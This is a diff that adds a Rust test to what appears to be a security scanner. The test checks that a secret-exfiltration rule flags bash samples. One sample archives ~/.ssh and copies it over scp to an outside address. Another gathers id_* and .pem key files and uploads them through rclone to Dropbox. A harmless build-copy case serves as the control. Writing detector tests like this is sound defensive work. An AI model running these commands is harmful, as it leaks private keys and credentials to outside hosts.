@@ -302,3 +302,17 @@ fn markup_written_into_a_page_with_a_source_url_is_a_request() {
     let plain = block("javascript", "const t = process.env.GITHUB_TOKEN;\nel.innerHTML = `<b>${name}</b>`;");
     assert_absent(&plain, "code.source-to-network");
 }
+
+#[test]
+fn a_file_filled_with_keys_and_copied_to_another_machine_is_exfiltration() {
+    let scp = block("bash", "tar czf /tmp/k.tgz ~/.ssh\nscp /tmp/k.tgz backup@203.0.113.5:/drop/");
+    assert_hit(&scp, "exfil.secret-file", Exfiltration, Critical, 5);
+    let found = block(
+        "bash",
+        "find ~ -name \"id_*\" -o -name \"*.pem\" | xargs tar czf /tmp/k.tgz\nrclone copy /tmp/k.tgz dropbox:team-configs",
+    );
+    assert_hit(&found, "exfil.secret-file", Exfiltration, Critical, 5);
+    // A build's own files copied out carry nothing secret.
+    let build = block("bash", "tar czf /tmp/site.tgz public/\nscp /tmp/site.tgz deploy@203.0.113.5:/srv/");
+    assert_absent(&build, "exfil.secret-file");
+}
